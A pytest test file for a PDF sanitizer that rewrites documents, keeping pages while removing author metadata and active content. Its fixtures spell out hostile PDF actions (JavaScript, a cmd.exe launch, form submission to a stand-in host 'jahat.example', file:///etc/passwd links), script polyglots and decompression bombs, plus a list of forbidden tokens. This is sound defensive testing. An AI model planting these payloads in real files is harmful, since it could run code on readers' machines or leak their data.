"""A PDF is written anew: its pages stay, what acts or tells of its makers does not."""

import io
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser
from pypdf import PdfReader, PdfWriter

from newsroom import pdf
from newsroom.confined import Refused
from tests.pdf_files import AUTHOR, PAGE_TEXT, assemble, make_pdf, packed, stream, with_packed_objects

WEB_LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://contoh.go.id/) >> >>]"
JPEG = b"\xff\xd8\xff\xe0\x00\x04JF\xff\xe1\x00\x0cExif\0\0GPS!\xff\xe2\x00\x11ICC_PROFILE\0abc\xff\xda\x00\x02isi\xff\xd9"


@pytest.fixture
def rewritten(tmp_path: Path) -> Any:
    """`rewritten(data)` is the new file and what was told of it."""

    def rewrite(data: bytes) -> tuple[bytes, dict[str, Any]]:
        (tmp_path / "in").write_bytes(data)
        told = pdf.rewrite(tmp_path / "in", tmp_path)
        return (tmp_path / "document.pdf").read_bytes(), told

    return rewrite


def annotation(rest: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 9 9] " + rest + b" >>]"


def test_the_pages_stay(rewritten: Any) -> None:
    data, told = rewritten(make_pdf(pages=3))
    assert (told["pages"], PdfReader(io.BytesIO(data), strict=True).pages[2].extract_text()) == (
        3,
        "Pedoman layanan",
    )


def test_writing_anew_twice_changes_nothing(rewritten: Any) -> None:
    once, _told = rewritten(make_pdf(page=WEB_LINK))
    assert rewritten(once)[0] == once


@pytest.mark.parametrize(
    "parts",
    [
        {"info": b"/Author (Budi Penyusun)"},
        {"catalog": b"/Metadata 10 0 R", "objects": (stream(b"<x>Budi Penyusun</x>", b"/Type /Metadata"),)},
        {"page": b"/PieceInfo << /App << /Private (Budi Penyusun) >> >>"},
        {"page": annotation(b"/Subtype /Text /Contents (Cek) /T (Budi Penyusun)")},
        {"page": annotation(b"/Subtype /Highlight /T 10 0 R"), "objects": (b"(Budi Penyusun)",)},
        {"objects": (b"(Budi Penyusun)",)},
    ],
    ids=["info", "xmp", "private data", "remark", "remark by reference", "left from an older version"],
)
def test_nothing_tells_who_made_it(rewritten: Any, parts: dict[str, Any]) -> None:
    assert AUTHOR.encode() not in rewritten(make_pdf(**parts))[0]


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIONS = {
    "script": SCRIPT,
    "script as a stream": b"<< /S /JavaScript /JS 11 0 R >>",
    "program": b"<< /S /Launch /F (cmd.exe) >>",
    "form": b"<< /S /SubmitForm /F << /FS /URL /F (https://jahat.example/) >> >>",
    "import": b"<< /S /ImportData /F (data.fdf) >>",
    "other file": b"<< /S /GoToR /F (//jahat.example/a.pdf) /D [0 /Fit] >>",
    "attached file": b"<< /S /GoToE /D [0 /Fit] >>",
    "sound": b"<< /S /Sound >>",
    "hiding": b"<< /S /Hide /T (x) >>",
    "printing": b"<< /S /Named /N /Print >>",
    "script address": b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>",
    "file address": b"<< /S /URI /URI (file:///etc/passwd) >>",
    "after a harmless one": b"<< /S /GoTo /D [1000 0 R /Fit] /Next " + SCRIPT + b" >>",
    "spelled otherwise": b"<< /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>",
}
PLACES: dict[str, Any] = {
    "opening": lambda action: {"catalog": b"/OpenAction " + action},
    "opening by reference": lambda action: {
        "catalog": b"/OpenAction 10 0 R",
        "objects": (action, stream(b"1")),
    },
    "trigger of the file": lambda action: {"catalog": b"/AA << /WC " + action + b" >>"},
    "trigger of a page": lambda action: {"page": b"/AA << /O " + action + b" >>"},
    "link": lambda action: {"page": annotation(b"/Subtype /Link /A " + action)},
    "field": lambda action: {
        "catalog": b"/AcroForm << /Fields [10 0 R] /CO [10 0 R] >>",
        "objects": (b"<< /FT /Tx /T (nama) /AA << /K " + action + b" >> >>",),
    },
    "name": lambda action: {"catalog": b"/Names << /JavaScript << /Names [(a) " + action + b"] >> >>"},
    "bookmark": lambda action: {
        "catalog": b"/Outlines 10 0 R",
        "objects": (
            b"<< /First 12 0 R /Last 12 0 R /Count 1 >>",
            stream(b"1"),
            b"<< /Title (Satu) /Parent 10 0 R /A " + action + b" >>",
        ),
    },
}
ACTS = (
    *(
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/SubmitForm",
        b"/ImportData",
        b"/GoToR",
        b"/GoToE",
        b"/AA",
        b"/Hide",
    ),
    *(b"/Sound", b"/Print", b"javascript", b"file:", b"alert", b"/URL"),
)


@pytest.mark.parametrize("action", ACTIONS)
def test_nothing_acts_wherever_it_stands(rewritten: Any, action: str) -> None:
    found = {}
    for place, parts in PLACES.items():
        data, _told = rewritten(make_pdf(**parts(ACTIONS[action])))
        found[place] = [word for word in ACTS if word in data]
    assert not any(found.values()), found


def test_no_page_of_the_web_opens_by_itself(rewritten: Any) -> None:
    action = b"<< /S /URI /URI (https://jahat.example/) >>"
    data = rewritten(make_pdf(catalog=b"/OpenAction " + action, page=b"/AA << /O " + action + b" >>"))[0]
    assert b"jahat" not in data


def test_a_link_to_the_web_stays(rewritten: Any) -> None:
    data = rewritten(make_pdf(page=WEB_LINK))[0]
    link = PdfReader(io.BytesIO(data)).pages[0]["/Annots"][0].get_object()
    assert link["/A"]["/URI"] == "https://contoh.go.id/"


@pytest.mark.parametrize(
    "opening",
    [b"[1000 0 R /XYZ null null 0]", b"<< /S /GoTo /D [1000 0 R /Fit] >>"],
    ids=["a place", "an action that goes there"],
)
def test_where_an_office_s_file_opens_stays(rewritten: Any, opening: bytes) -> None:
    data = rewritten(make_pdf(catalog=b"/OpenAction " + opening))[0]
    assert "/OpenAction" in PdfReader(io.BytesIO(data)).root_object


def test_bookmarks_stay(rewritten: Any) -> None:
    writer, output = PdfWriter(clone_from=io.BytesIO(make_pdf(pages=2))), io.BytesIO()
    writer.add_outline_item(title="Bab dua", page_number=1)
    writer.write(output)
    assert PdfReader(io.BytesIO(rewritten(output.getvalue())[0])).outline[0]["/Title"] == "Bab dua"


def test_a_font_may_have_a_trigger_s_name(rewritten: Any) -> None:
    page = b"/Resources << /Font << /AA 5 0 R >> >>"
    data = rewritten(make_pdf().replace(b"/Resources << /Font << /F1 5 0 R >> >>", page))[0]
    assert b"/Helvetica" in data


def test_a_photo_within_keeps_no_place(rewritten: Any) -> None:
    photo = stream(JPEG, b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode")
    data = rewritten(make_pdf(page=b"/Thumb 10 0 R", objects=(photo,)))[0]
    assert [word in data for word in (b"GPS!", b"ICC_PROFILE", b"isi\xff\xd9")] == [False, True, True]


def test_a_signature_over_other_bytes_is_left_behind_and_told(rewritten: Any) -> None:
    field = b"<< /FT /Sig /T (ttd) /Subtype /Widget /Rect [0 0 9 9] /V 11 0 R >>"
    signature = b"<< /Type /Sig /ByteRange [0 1 2 3] /Contents <abcdef> /Name (Budi Penyusun) >>"
    form = make_pdf(catalog=b"/AcroForm << /SigFlags 3 /Fields [10 0 R] >>", objects=(field, signature))
    data, told = rewritten(form)
    assert (told["was_signed"], AUTHOR.encode() in data) == (True, False)


def test_what_is_also_a_web_page_is_a_pdf_alone(rewritten: Any) -> None:
    page = b"<html><script>alert(1)</script>"
    data = rewritten(page + make_pdf() + page)[0]
    assert (data[:5], b"<script" in data) == (b"%PDF-", False)


ENCRYPTED = PdfWriter(clone_from=io.BytesIO(make_pdf()))
ENCRYPTED.encrypt(user_password="", owner_password="rahasia", algorithm="RC4-128")
locked = io.BytesIO()
ENCRYPTED.write(locked)


def deep_tree(depth: int) -> bytes:
    every = {1: b"<< /Type /Catalog /Pages 10 0 R >>"}
    for number in range(10, 10 + depth):
        every[number] = b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1)
    every[10 + depth] = b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    return assemble(every, b"/Root 1 0 R")


REFUSED = {
    "web page": (b"<html><script>alert(1)</script></html>", "broken"),
    "text": (b"halo", "broken"),
    "head alone": (b"%PDF-1.7\n", "broken"),
    "cut off": (make_pdf()[:150], "broken"),
    "no page": (make_pdf(pages=0), "broken"),
    "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 40, "broken"),
    "locked": (locked.getvalue(), "locked"),
    "two thousand pages and one": (make_pdf(pages=2001), "long"),
    "dynamic form": (
        make_pdf(b"/AcroForm << /Fields [] /XFA [(a) 10 0 R] >>", objects=(stream(b"x"),)),
        "form",
    ),
    "attached": (
        make_pdf(b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", objects=(b"<< >>",)),
        "attached",
    ),
    "attached to a page": (
        make_pdf(
            page=annotation(b"/Subtype /FileAttachment /FS << /EF << /F 10 0 R >> >>"),
            objects=(stream(b"x"),),
        ),
        "attached",
    ),
    "portfolio": (make_pdf(b"/Collection << >>"), "attached"),
    "video": (make_pdf(page=annotation(b"/Subtype /RichMedia")), "played"),
    "screen": (make_pdf(page=annotation(b"/Subtype /Screen")), "played"),
    "three dimensions": (make_pdf(page=annotation(b"/Subtype /3D")), "played"),
    "bomb": (make_pdf(content=packed(b"\0" * 260_000_000)), "heavy"),
    "bomb in a bomb": (make_pdf(content=stream(b"x", b"/Filter [/FlateDecode /FlateDecode]")), "heavy"),
    "pages within pages": (deep_tree(5000), "broken"),
    "pages in a ring": (make_pdf(pages=1).replace(b"/Kids [1000 0 R]", b"/Kids [2 0 R]   "), "broken"),
    "an object that is itself": (make_pdf(page=b"", content=b"4 0 R"), "broken"),
    "brackets": (make_pdf(page=b"/X " + b"[" * 20_000 + b"]" * 20_000), "broken"),
    "bomb of objects": (with_packed_objects(b"1 0 " + b" " * 200_000_000), "broken"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_kept_is_refused_with_its_reason(rewritten: Any, name: str) -> None:
    data, reason = REFUSED[name]
    with pytest.raises(Refused) as refusal:
        rewritten(data)
    assert refusal.value.reason == reason


@pytest.mark.parametrize(
    "data",
    [
        make_pdf(trailer=b"/Prev 9").replace(b"/Prev 9", b"/Prev 0"),
        make_pdf(trailer=b"/Prev 99999999999999999999"),
        make_pdf().replace(b"startxref\n", b"startxref\n9"),
        make_pdf(page=b"/Rotate " + b"9" * 5000),
        make_pdf(content=b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
        make_pdf(page=b"/X (" + b"\xff" * 9000 + b")"),
        make_pdf(page=b"/X /" + b"a" * 9000),
        make_pdf(page=b"/X " + b"<< /X " * 20_000 + b">>" * 20_000),
    ],
    ids=[
        "ring of tables",
        "far table",
        "wrong start",
        "long number",
        "length of itself",
        "long string",
        "long name",
        "deep",
    ],
)
def test_what_is_odd_ends_in_a_file_or_a_refusal(rewritten: Any, data: bytes) -> None:
    try:
        told = rewritten(data)[1]["pages"]
    except Refused as refusal:
        told = refusal.reason
    assert told in (1, "broken")


def test_what_a_browser_prints_comes_through(rewritten: Any, browser: Browser) -> None:
    page = browser.new_page()
    page.set_content('<h1>Pengumuman</h1><p>Isi <a href="https://contoh.go.id/">tautan</a>.</p>')
    printed = page.pdf(tagged=True, outline=True)
    page.close()
    reader = PdfReader(io.BytesIO(rewritten(printed)[0]), strict=True)
    assert ("Pengumuman" in reader.pages[0].extract_text(), "/StructTreeRoot" in reader.root_object) == (
        True,
        True,
    )


def test_the_text_of_the_page_is_the_same_bytes(rewritten: Any) -> None:
    assert PAGE_TEXT in rewritten(make_pdf())[0]
